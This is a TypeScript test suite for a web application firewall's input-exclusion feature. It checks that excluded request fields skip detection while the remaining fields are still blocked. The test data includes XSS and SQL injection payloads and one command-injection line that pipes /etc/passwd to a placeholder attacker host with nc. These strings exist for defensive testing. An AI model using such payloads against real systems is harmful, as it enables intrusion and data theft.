import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ConfigLoadError } from '../../../src/config/errors.js';
import { buildContext, DEFAULT_REQUEST_LIMITS } from '../../../src/pipeline/context-builder.js';
import { DEFAULT_DETECTOR_OPTIONS } from '../../../src/threat/detectors/index.js';
import { compileExclusions, parseExclusions, type ExcludeEntry } from '../../../src/threat/exclude.js';
import { walkInputs, type InputOptions } from '../../../src/threat/inputs.js';
import type { ThreatModule } from '../../../src/threat/module.js';
import { checkRequest, decide, denyBody, runtimeFrom, upstreamHeaders, type ReqSpec } from '../helpers.js';

const UA = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', accept: '*/*', 'accept-language': 'en', 'accept-encoding': 'gzip' };
const JSON_CT = { ...UA, 'content-type': 'application/json' };
const XSS = '<script>alert(document.cookie)</script>';
const SQLI = "1' OR '1'='1";
let ip = 10;

async function rt(yaml: string) {
  const r = await runtimeFrom(`default_action: { action: allow }\n${yaml}`);
  await r.modules.get('threat')!.start?.();
  return r;
}
type Rt = Awaited<ReturnType<typeof rt>>;
const close = (r: Rt) => (r.modules.get('threat') as ThreatModule).close();
/** A fresh client address per request (a block bans its client). */
const send = (r: Rt, spec: ReqSpec) => decide(r, { headers: UA, ...spec, source: `198.51.100.${ip++}` });
const post = (r: Rt, path: string, doc: unknown) => send(r, { method: 'POST', path, body: JSON.stringify(doc), headers: JSON_CT });
function allowed(resp: any, why: string): void { assert.ok(resp.ok_response, `${why}: ${JSON.stringify(resp.denied_response && denyBody(resp))}`); }
function blocked(resp: any, why: string): void {
  assert.equal(resp.denied_response?.status?.code, 403, why);
  assert.equal(denyBody(resp).error, 'ERR_THREAT', why);
}

const THREAT = 'threat: { events: { log: false }, ban: { ttl_ms: 0 } }\n';
const route = (name: string, prefix: string, threat = '') => `  - name: ${name}\n    match: { path: { prefix: ${prefix} } }\n${threat ? `    threat:\n${threat}` : ''}`;

async function refused(yaml: string, pointer: RegExp, message?: RegExp): Promise<void> {
  await assert.rejects(rt(yaml), (e: unknown) => {
    assert.ok(e instanceof ConfigLoadError, String(e));
    assert.match((e as Error).message, pointer);
    if (message) assert.match((e as Error).message, message);
    return true;
  });
}
const onRoute = (exclude: string, threatExtra = '') => `${THREAT}routes:\n${route('notes', '/', `      exclude: ${exclude}\n${threatExtra}`)}`;

describe('exclude: configuration is validated with the pointer of the bad entry', () => {
  it('an input that names no `where` (unknown prefix, CRS target syntax) is refused', async () => {
    await refused(onRoute('[{ input: "body.$.title" }, { input: "ARGS:body" }]'), /routes\/0\/threat\/exclude\/1\/input/, /unknown input/);
    await refused(onRoute('[{ input: "query" }]'), /exclude\/0\/input/, /needs a name/);
    await refused(onRoute('[{ input: "query." }]'), /exclude\/0\/input/, /needs a name/);
  });

  it('a malformed JSON path is refused', async () => {
    for (const bad of ['body.content', 'body.$..content', 'body.$.a[x]', 'body.$.a[', 'body.$.', 'body.$[0', 'body-key.$.a..b']) {
      await refused(onRoute(`[{ input: "${bad}" }]`), /routes\/0\/threat\/exclude\/0\/input/, /JSON|root/);
    }
  });

  it('families that are not injection families, an empty families list and unknown keys are refused by the schema', async () => {
    await refused(onRoute('[{ input: "query.q", families: [bot] }]'), /exclude\/0\/families\/0/);
    await refused(onRoute('[{ input: "query.q", families: [] }]'), /exclude\/0\/families/);
    await refused(onRoute('[{ input: "query.q", rule: 942100 }]'), /exclude\/0/, /rule/);
    await refused(onRoute('[{ families: [xss] }]'), /exclude\/0/, /input/);
  });

  it('inputs that are never inspected, or families the route does not run, could never apply: refused', async () => {
    await refused(onRoute('[{ input: "header.x-api-key" }]'), /exclude\/0\/input/, /not inspected/);
    await refused(onRoute('[{ input: "header.cookie" }]'), /exclude\/0\/input/, /cookie\.<name>/);
    await refused(onRoute('[{ input: "path[33]" }]'), /exclude\/0\/input/, /1 to 32/);
    await refused(onRoute(`[{ input: "query.${'q'.repeat(65)}" }]`), /exclude\/0\/input/, /64/);
    await refused(`threat: { inspect: { query: false } }\nroutes:\n${route('notes', '/', '      exclude: [{ input: "query.q" }]\n')}`, /exclude\/0\/input/, /query: false/);
    await refused(onRoute('[{ input: "body.$.content", families: [cmdi] }]', '      families: [sqli, xss]\n'), /routes\/0\/threat\/exclude\/0\/families/, /does not inspect cmdi/);
  });

  it('an input listed twice is refused; the global list has its own pointer', async () => {
    await refused(onRoute('[{ input: "query.q", families: [xss] }, { input: "query.q", families: [sqli] }]'), /exclude\/1\/input/, /twice/);
    await refused(`threat: { inspect: { exclude: [{ input: "cookies.sid" }] } }\nroutes:\n${route('a', '/')}`, /threat\/inspect\/exclude\/0\/input/);
  });

  it('header names are case-insensitive, as in HTTP', async () => {
    const r = await rt(onRoute('[{ input: "header.Referer" }]'));
    allowed(await send(r, { path: '/x', headers: { ...UA, referer: `https://example.com/?${XSS}` } }), 'excluded referer');
    await close(r);
  });
});

describe('exclude: an excluded input is not read; everything else on the route still is', () => {
  it('XSS in the excluded JSON field passes; the same XSS in another field of the same route is refused', async () => {
    const r = await rt(onRoute('[{ input: "body.$.content" }]'));
    allowed(await post(r, '/notes', { title: 'Release notes', content: XSS }), 'excluded field');
    blocked(await post(r, '/notes', { title: XSS, content: 'plain' }), 'title is not excluded');
    blocked(await post(r, '/notes', { meta: { content: XSS } }), 'only $.content, not a nested field of the same name');
    blocked(await send(r, { path: `/notes?content=${encodeURIComponent(XSS)}` }), 'a query parameter of the same name is another input');
    await close(r);
  });

  it('a family-restricted exclusion still runs the other families on that input', async () => {
    const r = await rt(onRoute('[{ input: "body.$.content", families: [xss] }, { input: "query.q", families: [sqli, cmdi] }]'));
    allowed(await post(r, '/notes', { content: XSS }), 'xss excluded');
    blocked(await post(r, '/notes', { content: SQLI }), 'sqli still read in content');
    allowed(await send(r, { path: `/s?q=${encodeURIComponent(SQLI)}` }), 'sqli excluded on q');
    blocked(await send(r, { path: `/s?q=${encodeURIComponent(XSS)}` }), 'xss still read in q');
    await close(r);
  });

  it('[*] matches every array index; an exact index only itself', async () => {
    const r = await rt(onRoute('[{ input: "body.$.comments[*].text" }, { input: "body.$.items[0]" }, { input: "query.tags[*]" }]'));
    allowed(await post(r, '/notes', { comments: [{ text: 'ok' }, { text: XSS }, { text: 'x' }, { text: 'y' }, { text: 'z' }, { text: XSS }] }), 'comments[1] and [5]');
    blocked(await post(r, '/notes', { comments: [{ text: 'ok', author: XSS }] }), 'another field of the element');
    allowed(await post(r, '/notes', { items: [XSS, 'b'] }), 'items[0]');
    blocked(await post(r, '/notes', { items: ['a', XSS] }), 'items[1] is not excluded');
    allowed(await send(r, { path: `/s?tags[3]=${encodeURIComponent(XSS)}` }), 'PHP-style query array');
    await close(r);
  });

  it('has no effect on other routes', async () => {
    const r = await rt(`${THREAT}routes:\n${route('notes', '/notes', '      exclude: [{ input: "body.$.content" }]\n')}${route('other', '/')}`);
    allowed(await post(r, '/notes', { content: XSS }), 'route with the exclusion');
    blocked(await post(r, '/other', { content: XSS }), 'route without it');
    await close(r);
  });

  it('threat.inspect.exclude applies on every route, and adds to a route\'s own (families united)', async () => {
    const r = await rt(`threat: { events: { log: false }, ban: { ttl_ms: 0 }, inspect: { exclude: [{ input: "body.$.content", families: [xss] }] } }\nroutes:\n` +
      `${route('notes', '/notes', '      exclude: [{ input: "body.$.content", families: [sqli] }, { input: "body.$.title" }]\n')}${route('other', '/')}`);
    allowed(await post(r, '/other', { content: XSS }), 'global exclusion on a route without its own');
    blocked(await post(r, '/other', { content: SQLI }), 'global exclusion is xss only');
    allowed(await post(r, '/notes', { content: `${XSS} ${SQLI}`, title: XSS }), 'xss (global) and sqli (route) excluded; title (route)');
    blocked(await post(r, '/notes', { content: '; cat /etc/passwd | nc evil.example 4444' }), 'cmdi still read');
    blocked(await post(r, '/other', { title: XSS }), 'the route\'s title exclusion is its own');
    await close(r);
  });

  it('bots and request validation are unaffected', async () => {
    const r = await rt(`${THREAT}routes:\n${route('notes', '/', '      exclude: [{ input: "body.$.content" }, { input: "header.user-agent" }]\n      validation: { max_body_bytes: 200 }\n      upstream_header: true\n')}`);
    const big = await post(r, '/notes', { content: `${XSS}${'x'.repeat(300)}` });
    assert.equal(big.denied_response?.status?.code, 413, 'size limits still apply to an excluded field');
    const curl = await send(r, { path: '/x', headers: { 'user-agent': 'curl/8.5.0', accept: '*/*' } });
    allowed(curl, 'curl is a weak bot signal');
    assert.match(upstreamHeaders(curl)['x-portcullis-risk-findings'] ?? '', /bot/, 'bot signals still read the excluded user agent');
    await close(r);
  });
});

describe('exclude: the walk', () => {
  const o: InputOptions = { headers: ['cookie', 'referer'], maxValueBytes: 64 * 1024, maxTotalBytes: 512 * 1024, maxJsonDepth: 32, maxJsonValues: 5000, maxParts: 100, inspectPath: true, inspectQuery: true, inspectBody: true };
  const ex = (list: ExcludeEntry[], opts = o) => compileExclusions([], parseExclusions(list, '/x', opts), DEFAULT_DETECTOR_OPTIONS);
  function walk(r: ReqSpec, list: ExcludeEntry[], opts = o) {
    const seen: Array<[string, string, string]> = [];
    const ctx = buildContext(checkRequest(r), { limits: DEFAULT_REQUEST_LIMITS, trustedHops: 0 });
    const lim = walkInputs(ctx, opts, (w, v, _h, det) => seen.push([w, v, det ? [...det.families].join(',') : 'route']), ex(list, opts));
    return { seen, lim, wheres: seen.map(([w]) => w) };
  }

  it('an input excluded from every family is not read and costs no budget', () => {
    const small = { ...o, maxTotalBytes: 100 };
    const doc = JSON.stringify({ content: 'x'.repeat(5000), title: 'hello there' });
    const r = walk({ method: 'POST', path: '/', body: doc, headers: { 'content-type': 'application/json' } }, [{ input: 'body.$.content' }], small);
    assert.deepEqual(r.wheres, ['body.$.title']);
    assert.equal(r.lim.budgetExhausted, false);
    const without = walk({ method: 'POST', path: '/', body: doc, headers: { 'content-type': 'application/json' } }, [], small);
    assert.equal(without.lim.budgetExhausted, true, 'the same body without the exclusion runs out of budget');
  });

  it('an input excluded from some families is read with the others, its long tail too', () => {
    const long = `${'a '.repeat(40_000)}${XSS}`;
    const r = walk({ method: 'POST', path: '/', body: JSON.stringify({ content: long, t: 'ab' }), headers: { 'content-type': 'application/json' } }, [{ input: 'body.$.content', families: ['xss', 'sqli'] }]);
    const content = r.seen.filter(([w]) => w === 'body.$.content');
    assert.ok(content.length >= 2, 'first window and tail');
    for (const [, , fams] of content) assert.equal(fams, 'traversal,cmdi');
    assert.deepEqual(r.seen.find(([w]) => w === 'body.$.t')?.[2], 'route');
  });

  it('keys are inputs of their own: excluding a value leaves its object\'s odd keys read (body-key.… excludes them)', () => {
    const req = { method: 'POST', path: '/', body: JSON.stringify({ content: { "<img src=x onerror=alert(1)>": 'vv' } }), headers: { 'content-type': 'application/json' } };
    assert.deepEqual(walk(req, [{ input: 'body.$.content' }]).wheres, ['body-key.$.content', 'body.$.content.<img src=x onerror=alert(1)>']);
    assert.deepEqual(walk(req, [{ input: 'body-key.$.content' }]).wheres, ['body.$.content.<img src=x onerror=alert(1)>']);
    const q = walk({ path: `/s?${encodeURIComponent("a'b")}=${encodeURIComponent(XSS)}` }, [{ input: "query.a'b" }]);
    assert.deepEqual(q.wheres, ['path', "query-key.a'b"]);
  });

  it('path, path segments, cookies, form fields and multipart parts by their `where`', () => {
    const r = walk({ path: "/a/b'c/d;e", headers: { cookie: `sid=${XSS}; t=${XSS}`, referer: XSS } }, [{ input: 'path' }, { input: 'path[*]' }, { input: 'cookie.sid' }, { input: 'header.referer' }]);
    assert.deepEqual(r.wheres, ['cookie.t']);
    const seg = walk({ path: "/a/b'c/d;e" }, [{ input: 'path[2]' }]);
    assert.deepEqual(seg.wheres, ['path', 'path[3]']);
    const form = walk({ method: 'POST', path: '/', body: `a=${encodeURIComponent(XSS)}&b=${encodeURIComponent(XSS)}`, headers: { 'content-type': 'application/x-www-form-urlencoded' } }, [{ input: 'form.a' }]);
    assert.deepEqual(form.wheres, ['form.b']);
    const mp = ['--B', 'Content-Disposition: form-data; name="bio"', '', XSS, '--B', 'Content-Disposition: form-data; name="f"; filename="n.txt"', 'Content-Type: text/plain', '', XSS, '--B--', ''].join('\r\n');
    const m = walk({ method: 'POST', path: '/', body: mp, headers: { 'content-type': 'multipart/form-data; boundary=B' } }, [{ input: 'multipart.bio' }, { input: 'multipart.f.filename' }]);
    assert.deepEqual(m.wheres, ['multipart.f']);
  });

  it('a route without exclusions compiles to none (the walk takes its old path)', () => {
    assert.equal(ex([]), undefined);
    const onlyOther = compileExclusions(parseExclusions([{ input: 'query.q', families: ['cmdi'] }], '/g', o), [], { ...DEFAULT_DETECTOR_OPTIONS, families: new Set(['xss'] as const) });
    assert.equal(onlyOther, undefined, 'a global entry for a family the route does not run excludes nothing there');
  });
});
